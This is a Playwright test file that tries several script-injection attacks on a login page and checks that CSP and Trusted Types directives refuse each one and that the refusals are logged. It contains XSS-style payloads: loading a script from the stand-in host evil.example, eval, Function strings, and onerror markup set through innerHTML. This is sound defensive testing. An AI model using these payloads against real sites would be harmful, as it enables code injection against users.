import { expect } from '@playwright/test';
import { site, test } from '#tests/support/browser/browser.ts';
import { queryDatabase } from '#tests/support/api/database.ts';

test.use({
  expectedErrors: /Content Security Policy|Trusted/,
  expectedViolations: /./,
});

declare global {
  /** Set by code that got through. */
  var hasRun: boolean | undefined;
}

/** Trusted Types, as far as an attacker needs it; the browser's types do not have it yet. */
interface PolicyFactory {
  createPolicy: (name: string, rules: object) => unknown;
}

/** In the page: what somebody who can run a little there would try, and which directive refuses it. */
async function attackAll(): Promise<Record<string, string>> {
  const foreignScript = new URL('https://evil.example/run.js').href;
  const code = 'globalThis.hasRun = true';
  const added = (tag: string, attributes = {}) => {
    const element = Object.assign(document.createElement(tag), attributes);
    document.body.append(element);
    return element;
  };
  const attacks: Record<string, () => unknown> = {
    'a foreign script': () => added('script', { src: foreignScript }),
    'a foreign module': () => import(foreignScript),
    'a file of ours that the release does not name': () =>
      added('script', { src: '/r/shell/run.js' }),
    'an inline script': () => added('script', { text: code }),
    'an event handler in an attribute': () => added('img').setAttribute('onerror', code),
    'code from a string': () => (Reflect.get(globalThis, 'eval') as (text: string) => void)(code),
    'a function from a string': () => (Reflect.construct(Function, [code]) as () => void)(),
    'markup from a string': () => (added('div').innerHTML = `<img src="data:," onerror="${code}">`),
    'a policy that lets anything through': () =>
      (Reflect.get(globalThis, 'trustedTypes') as PolicyFactory).createPolicy('mine', {}),
  };

  const refused: Record<string, string> = {};
  for (const [name, attack] of Object.entries(attacks)) {
    refused[name] = await new Promise<string>((resolve) => {
      const directiveOf = (event: SecurityPolicyViolationEvent) =>
        resolve(event.effectiveDirective);
      addEventListener('securitypolicyviolation', directiveOf, { once: true });
      setTimeout(() => resolve('nothing'), 1_000);
      /* Later: while a test's own code runs, the browser lets strings be code. */
      setTimeout(
        () =>
          void Promise.resolve()
            .then(attack)
            .catch(() => undefined),
      );
    });
  }
  return refused;
}

test('code from elsewhere, from strings and from markup is refused, and each refusal is reported', async ({
  page,
}) => {
  await page.goto('/login');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  const refused = await page.evaluate(attackAll);

  expect(refused).toEqual({
    'a foreign script': 'require-trusted-types-for',
    'a foreign module': 'script-src-elem',
    'a file of ours that the release does not name': 'require-trusted-types-for',
    'an inline script': 'require-trusted-types-for',
    'an event handler in an attribute': 'require-trusted-types-for',
    'code from a string': 'require-trusted-types-for',
    'a function from a string': 'require-trusted-types-for',
    'markup from a string': 'require-trusted-types-for',
    'a policy that lets anything through': 'trusted-types',
  });
  expect(await page.evaluate(() => globalThis.hasRun)).toBeUndefined();
  await expect
    .poll(reportedDirectives)
    .toEqual(expect.arrayContaining([...new Set(Object.values(refused))]));
});

async function reportedDirectives(): Promise<unknown[]> {
  const rows = await queryDatabase(
    site,
    "SELECT DISTINCT reason FROM release_signals WHERE kind = 'violation'",
  );
  return rows.map(({ reason }) => reason);
}
